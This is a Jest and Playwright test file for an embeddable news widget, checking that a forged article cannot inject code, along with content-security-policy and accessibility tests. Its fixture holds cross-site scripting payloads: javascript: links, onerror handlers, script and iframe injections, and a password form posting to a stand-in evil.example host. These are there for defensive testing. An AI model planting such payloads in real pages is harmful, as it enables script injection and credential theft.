import { describe, expect, test } from '@jest/globals';
import type { Page } from 'playwright-core';
import { findViolations } from '../browser/find-violations.ts';
import { part, useArchiveStage } from './archive-stage.ts';
import type { VisitOptions } from './church.ts';

/** A computed style of the element that this is evaluated on. */
const styleOf = (property: string) =>
  new Function('element', `return getComputedStyle(element).${property}`) as (element: unknown) => string;

const stage = useArchiveStage();

async function open(options: VisitOptions = {}, snippet = stage.snippet()) {
  const body = `<main><h1>Grace Chapel</h1>${snippet}</main>`;
  const visit = await stage.visit(body, options);
  const parts = part(visit.page);
  await parts.older.waitFor();
  return { visit, page: visit.page, ...parts };
}

/** Makes the server answer every article with this document. */
function forge(document: unknown): void {
  stage.intercept('/v1/articles/', (_request, response) => {
    response.writeHead(200, { 'Content-Type': 'application/json', 'Access-Control-Allow-Origin': '*' });
    response.end(JSON.stringify(document));
  });
}

const FORGED = {
  v: 1,
  id: 'x',
  url: 'javascript:window.hacked=1',
  title: '<img src=x onerror=window.hacked=2>',
  byline: '<b>Eve</b>',
  published: 1_795_000_000,
  publisher: 'Eve',
  picture: { src: 'https://evil.example/pixel.gif', alt: '' },
  audio: 'https://evil.example/a.mp3',
  licence: { text: 'licence', url: 'javascript:window.hacked=3' },
  body: [
    ['script', {}, 'window.hacked=4'],
    ['iframe', { src: 'https://evil.example/', srcdoc: '<script>parent.hacked=5</script>' }],
    ['p', { onclick: 'window.hacked=6', style: 'position:fixed', class: 'back', id: 'x', part: 'x' }, 'a paragraph'],
    ['a', { href: 'javascript:window.hacked=7', target: '_top' }, 'a link'],
    ['a', { href: ' javascript:window.hacked=8' }, 'another link'],
    ['a', { href: 'data:text/html,x', ping: 'https://evil.example/' }, 'a third'],
    [
      'img',
      { src: 'https://evil.example/pixel.gif', onerror: 'window.hacked=9', srcset: 'https://evil.example/2x.gif 2x' },
    ],
    ['p', { src: 'https://evil.example/' }, ['svg', {}, ['script', {}, 'window.hacked=10']]],
    ['form', { action: 'https://evil.example/' }, ['input', { name: 'password' }], ['button', {}, 'Send']],
    ['object', { data: 'https://evil.example/' }],
    ['link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }],
    ['style', {}, '*{display:none}'],
    ['SCRIPT', { src: 'https://evil.example/x.js' }],
    ['x-widget', {}, 'custom'],
    ['__proto__', {}, 'proto'],
    [null, null, 'nothing'],
    { toString: 1 },
    7,
  ],
};

// The widget gives its own elements a `part`. The forged part has the value x.
const FOUND = `(() => {
  const root = document.querySelector('div.tidings').shadowRoot.querySelector('article').shadowRoot;
  const nodes = [...root.querySelectorAll('*')];
  return {
    elements: [...new Set(nodes.map((node) => node.localName))].sort(),
    attributes: [...new Set([...root.querySelectorAll('.story *')].flatMap((node) => node.getAttributeNames().filter((name) => name !== 'part' || node.part.value === 'x')))].sort(),
    links: nodes.filter((node) => node.href).map((node) => node.href.replace(location.origin, '')),
    text: root.querySelector('.story').textContent,
    hacked: window.hacked,
  };
})()`;

interface Found {
  readonly elements: readonly string[];
  readonly attributes: readonly string[];
  readonly links: readonly string[];
  readonly text: string;
  readonly hacked: unknown;
}

describe('a malicious article document', () => {
  test('adds neither code nor requests to the page', async () => {
    forge(FORGED);
    const { page, visit, headlines, title, article } = await open();
    await headlines.first().click();
    await title.waitFor();
    await article.locator('.story a').first().click({ noWaitAfter: true });
    const found = (await page.evaluate(FOUND)) as Found;
    const known = ['a', 'br', 'div', 'h3', 'img', 'p', 'span', 'time'];
    expect(found.elements.filter((name) => !known.includes(name))).toEqual([]);
    expect(
      found.attributes.filter((name) => /^(on|style|id|srcset|src|ping|action|data|srcdoc|name)/.test(name)),
    ).toEqual([]);
    expect(found.links.every((href) => href.startsWith('/'))).toBe(true);
    expect(found.text).toContain('<img src=x onerror=window.hacked=2>');
    expect(found.text).toContain('a paragraph');
    expect(found.hacked).toBeUndefined();
    expect(visit.requests.filter((url) => url.includes('evil'))).toEqual([]);
    expect(visit.complaints).toEqual([]);
  });

  test('that is nested very deeply does no harm', async () => {
    let nested: unknown = 'deep';
    for (let depth = 0; depth < 2000; depth += 1) nested = ['div', {}, nested];
    forge({ ...FORGED, title: 'Deep', body: [['p', {}, 'before'], nested, ['p', {}, 'after']] });
    const { headlines, title, article } = await open();
    await headlines.first().click();
    await title.waitFor();
    expect(await article.locator('.story > p').allTextContents()).toEqual(expect.arrayContaining(['before', 'after']));
  });

  test.each([
    ['nothing', null],
    ['a list', []],
    ['a text', 'x'],
    ['half of it', { v: 1, title: 'x' }],
  ])('that is %s is not shown', async (_name, document) => {
    forge(document);
    const { headlines, status } = await open();
    await headlines.first().click();
    await status.getByText('That could not be loaded.').waitFor();
    expect(await headlines.first().isVisible()).toBe(true);
  });
});

describe('a strict policy', () => {
  const directives = (script: string) =>
    [
      "default-src 'none'",
      script,
      `img-src ${stage.origin} data:`,
      `connect-src ${stage.origin}`,
      `media-src ${stage.origin}`,
      "base-uri 'none'",
      "form-action 'none'",
      "require-trusted-types-for 'script'",
      "trusted-types 'none'",
    ].join('; ');

  test.each([
    ['allows the newsroom’s origin', () => `script-src ${stage.origin}`, (snippet: string) => snippet],
    [
      'allows a nonce',
      () => "script-src 'nonce-abc'",
      (snippet: string) => snippet.replace('<script', '<script nonce="abc"'),
    ],
    [
      'allows only a nonce',
      () => "script-src 'nonce-abc' 'strict-dynamic'",
      (snippet: string) => snippet.replace('<script', '<script nonce="abc"'),
    ],
  ])('that %s allows list and article', async (_name, script, change) => {
    const policy = directives(script());
    const { visit, headlines, older, status, title, article } = await open(
      { headers: { 'Content-Security-Policy': policy } },
      // The page must allow the snippet's style attribute itself.
      change(stage.snippet().replace(/ style="[^"]*"/, '')),
    );
    await older.click();
    await status.getByText('6–10').waitFor();
    await headlines.first().click();
    await title.waitFor();
    expect(await article.evaluate(styleOf('display'))).toBe('block');
    expect(visit.complaints).toEqual([]);
  });
});

describe('accessibility:', () => {
  const hosts = async (page: Page): Promise<unknown> =>
    page.evaluate('[document.cookie, localStorage.length, sessionStorage.length].join()');

  test.each([
    ['top', 'ltr', 'light'],
    ['top', 'ltr', 'dark'],
    ['hebrew', 'rtl', 'light'],
    ['hebrew', 'rtl', 'dark'],
  ])('%s, %s, on a %s page, has no accessibility problem in list and article', async (feed, direction, ground) => {
    const head = ground === 'dark' ? '<style>body{background:#14181c;color:#eee}</style>' : '';
    const { page, visit, section, headlines, title, article } = await open({ head }, stage.snippet({}, feed));
    expect(await findViolations(page)).toEqual([]);
    expect(await section.evaluate(styleOf('direction'))).toBe(direction);
    await headlines.first().click();
    await title.waitFor();
    expect(await findViolations(page)).toEqual([]);
    expect(await article.locator('.back').first().evaluate(styleOf('direction'))).toBe(direction);
    expect(await hosts(page)).toBe(',0,0');
    const origins = new Set(visit.requests.filter((url) => url.startsWith('http')).map((url) => new URL(url).origin));
    expect(origins).toEqual(new Set([stage.church.origin, stage.origin]));
  });

  test('the keyboard reaches everything in reading order', async () => {
    const { page, title, article } = await open();
    const focused =
      '(() => { let at = document.activeElement; while (at?.shadowRoot?.activeElement) at = at.shadowRoot.activeElement; return at.ariaLabel || at.textContent.slice(0, 20) || at.localName; })()';
    const walked: unknown[] = [];
    for (let step = 0; step < 9; step += 1) {
      await page.keyboard.press('Tab');
      walked.push(await page.evaluate(focused));
    }
    expect(walked).toEqual([
      'Search',
      'All topics',
      'Lamps are lit again ',
      'נרות נדלקו שוב לאורך',
      'Story 0 of the paris',
      'Story 1 of the paris',
      'Story 2 of the paris',
      'Older',
      'Example News',
    ]);
    for (let step = 0; step < 6; step += 1) await page.keyboard.press('Shift+Tab');
    await page.keyboard.press('Enter');
    await title.waitFor();
    // The player is hidden until its parts are laid out.
    await article.locator('audio').waitFor();
    const inArticle: unknown[] = [];
    while (inArticle.at(-1) !== 'torches') {
      await page.keyboard.press('Tab');
      inArticle.push(await page.evaluate(focused));
    }
    // The player has several buttons.
    expect([...new Set(inArticle)]).toEqual(['audio', 'torches']);
  });

  test.each([280, 320, 768, 1280])(
    'nothing is cut off or overflows at %d px, with spread text of double size',
    async (width) => {
      const { page, headlines, title } = await open({ viewport: { width, height: 900 } });
      const spills = 'document.documentElement.scrollWidth - innerWidth';
      expect(await page.evaluate(spills)).toBeLessThanOrEqual(0);
      await page.addStyleTag({
        content: 'body{font-size:200%;letter-spacing:.12em;word-spacing:.16em;line-height:1.5}',
      });
      expect(await page.evaluate(spills)).toBeLessThanOrEqual(0);
      await headlines.first().click();
      await title.waitFor();
      expect(await page.evaluate(spills)).toBeLessThanOrEqual(0);
    },
  );

  test('without JavaScript the link stays', async () => {
    const visit = await stage.visit(stage.snippet(), { javaScriptEnabled: false });
    expect(await visit.page.locator('div.tidings a').textContent()).toBe('Latest news');
  });
});
